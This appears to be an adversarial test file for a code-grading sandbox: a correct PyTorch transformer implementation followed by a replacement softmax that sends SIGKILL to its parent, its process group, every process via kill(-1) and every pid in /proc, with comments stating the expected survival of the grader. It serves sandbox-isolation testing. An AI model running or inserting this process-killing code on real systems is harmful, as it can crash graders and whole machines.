# attack: softmax sends SIGTERM then SIGKILL to its parent (os.getppid()), SIGKILL to the parent's process group, to every process it can (kill(-1, SIGKILL)), to each pid listed in /proc, and finally to its own process group (os.killpg(0, SIGKILL))
# target: softmax
# expect: the grader (trusted process), the fork server and other workers survive: the worker can signal nothing outside its sandbox; softmax either passes (a PID-namespace init ignores its own signals) or gets status error (the worker killed itself); every question gets a row; the batch goes on to the next submission
"""Try to take the grader down with it.

DANGER: where the worker is not isolated (same user, same PID namespace) this kills the grader
and, as root, kill(-1, SIGKILL) kills nearly every process on the machine. Only run it inside the
grader under test.
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import os as _os
import signal as _signal


def _try(fn, *args):
    try:
        fn(*args)
    except (OSError, ValueError):
        pass


def softmax(x, dim=-1):
    me = _os.getpid()
    parent = _os.getppid()  # 0 when the worker is PID 1 of its own namespace
    if parent > 0:
        _try(_os.kill, parent, _signal.SIGTERM)
        _try(_os.kill, parent, _signal.SIGKILL)
        try:
            _try(_os.killpg, _os.getpgid(parent), _signal.SIGKILL)
        except OSError:
            pass
    _try(_os.kill, -1, _signal.SIGKILL)
    try:
        pids = [int(p) for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        if pid != me:
            _try(_os.kill, pid, _signal.SIGKILL)
    _try(_os.killpg, 0, _signal.SIGKILL)
    _try(_os.kill, me, _signal.SIGKILL)
    return _softmax(x, dim)
